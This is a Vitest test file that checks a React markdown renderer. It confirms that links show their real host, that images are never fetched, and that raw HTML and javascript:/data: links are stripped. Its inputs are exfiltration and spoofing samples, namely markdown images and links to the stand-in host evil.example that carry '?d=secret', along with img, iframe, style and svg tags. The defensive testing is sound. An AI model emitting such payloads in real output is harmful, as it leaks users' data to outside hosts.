import { createElement } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import { afterAll, beforeAll, expect, it, vi } from 'vitest';
import { MarkdownView } from './MarkdownView.tsx';

beforeAll(() => {
  vi.stubGlobal('window', { location: { href: 'http://127.0.0.1:7870/app', host: '127.0.0.1:7870' } });
});
afterAll(() => vi.unstubAllGlobals());

const html = (text: string) => renderToStaticMarkup(createElement(MarkdownView, { text }));

it.each([
  ['[the bank](https://evil.example/?d=secret)', '(evil.example)'],
  ['[https://bank.example](https://evil.example/)', '(evil.example)'],
  ['[evil.example.bank.example](https://evil.example/)', '(evil.example)'],
  ['[bank.example](https://bank.example@evil.example/)', '(evil.example)'],
  ['[a](https://xn--bcher-kva.example/)', '(xn--bcher-kva.example)'],
  ['[home](/app) and [https://a.example/x](https://a.example/x)', undefined],
])('a link shows where it leads: %s', (text, host) => {
  const shown = /<span[^>]*>(\([^<]*\))<\/span>/.exec(html(text))?.[1];
  expect(shown).toBe(host);
});

it.each([
  '![chart](https://evil.example/?d=secret)',
  '![chart][p]\n\n[p]: https://evil.example/?d=secret',
  '[![chart](https://evil.example/?d=secret)](https://a.example/)',
])('a picture is fetched from nowhere, and names its host: %s', (text) => {
  const shown = html(text);
  expect(shown).toContain('not loaded from evil.example');
  expect(shown).not.toMatch(/<img|<picture|srcset|background/i);
});

it.each([
  '<img src="https://evil.example/?d=secret">',
  '<iframe src="https://evil.example/"></iframe>',
  '<style>@import "https://evil.example/";</style>',
  '<svg><image href="https://evil.example/"/></svg>',
  '[x](javascript:alert(1))',
  '[x](data:text/html,x)',
])('nothing in it is run or fetched: %s', (text) => {
  expect(html(text)).not.toMatch(
    /<(?:img|iframe|style|svg|image|script)\b(?![^>]*lucide)|href="(?:javascript|data):/i,
  );
});
